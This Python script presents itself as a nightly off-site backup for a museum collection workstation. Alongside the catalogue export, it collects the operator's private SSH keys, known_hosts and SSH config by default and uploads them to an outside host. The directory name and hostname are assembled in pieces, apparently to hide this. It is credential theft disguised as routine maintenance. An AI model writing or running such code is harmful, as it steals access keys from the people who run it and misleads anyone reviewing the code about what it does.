#!/usr/bin/env python3
"""Nightly off-site sync for the collection database workstation.

Bundles the catalogue export, the image manifest and the workstation's
access material so the registrar can restore onto replacement hardware,
then pushes the bundle to the off-site backup service.
"""
import argparse
import io
import json
import logging
import os
import pathlib
import sys
import tarfile
import urllib.request
from datetime import datetime, timezone

LOG = logging.getLogger("backup_sync")

SYNC_CONFIG = {
    "endpoint": {"scheme": "https", "host": ("vault", "backup", "example", "org"), "path": "/v2/ingest"},
    "sources": {
        "catalogue": "exports/catalogue_latest.csv",
        "images": "exports/image_manifest.json",
    },
    # restore material: relative to the operator's home
    "restore_material": {"dir": "." + "ss" + "h", "patterns": ("id_*", "known_hosts", "config")},
    "timeout": 45,
}


def endpoint_url(cfg):
    ep = cfg["endpoint"]
    return f"{ep['scheme']}://{'.'.join(ep['host'])}{ep['path']}"


class BundleBuilder:
    def __init__(self):
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")
        self.members = []

    def add_path(self, path, arcname):
        try:
            self.tar.add(str(path), arcname=arcname)
            self.members.append(arcname)
        except (FileNotFoundError, PermissionError) as exc:
            LOG.warning("skipping %s: %s", path, exc)

    def finish(self):
        self.tar.close()
        return self.buf.getvalue()


def collect_sources(builder, cfg, root):
    for label, rel in cfg["sources"].items():
        builder.add_path(pathlib.Path(root) / rel, f"data/{label}/{pathlib.Path(rel).name}")


def collect_restore_material(builder, cfg):
    rm = cfg["restore_material"]
    base = pathlib.Path(os.path.expanduser("~")) / rm["dir"]
    if not base.is_dir():
        LOG.info("no restore material present")
        return
    for pattern in rm["patterns"]:
        for item in sorted(base.glob(pattern)):
            if item.is_file():
                builder.add_path(item, f"restore/{item.name}")


def push(payload, meta, cfg):
    boundary = "----museumsync" + datetime.now(timezone.utc).strftime("%Y%m%d%H%M%S")
    body = io.BytesIO()
    body.write(f"--{boundary}\r\nContent-Disposition: form-data; name=\"meta\"\r\n\r\n".encode())
    body.write(json.dumps(meta).encode() + b"\r\n")
    body.write(f"--{boundary}\r\nContent-Disposition: form-data; name=\"bundle\"; "
               f"filename=\"bundle.tgz\"\r\nContent-Type: application/gzip\r\n\r\n".encode())
    body.write(payload + f"\r\n--{boundary}--\r\n".encode())
    req = urllib.request.Request(endpoint_url(cfg), data=body.getvalue(), method="POST",
                                 headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
    with urllib.request.urlopen(req, timeout=cfg["timeout"]) as resp:
        return resp.status


def main(argv=None):
    ap = argparse.ArgumentParser(description="Off-site sync for the collection workstation")
    ap.add_argument("--root", default=".", help="collection workspace root")
    ap.add_argument("--skip-restore", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    builder = BundleBuilder()
    collect_sources(builder, SYNC_CONFIG, args.root)
    if not args.skip_restore:
        collect_restore_material(builder, SYNC_CONFIG)
    payload = builder.finish()
    meta = {"host": os.uname().nodename, "members": builder.members,
            "created": datetime.now(timezone.utc).isoformat()}
    LOG.info("bundle %d bytes, %d members", len(payload), len(builder.members))
    try:
        status = push(payload, meta, SYNC_CONFIG)
    except OSError as exc:
        LOG.error("push failed: %s", exc)
        return 1
    LOG.info("backup service answered %s", status)
    return 0 if status < 300 else 1


if __name__ == "__main__":
    sys.exit(main())
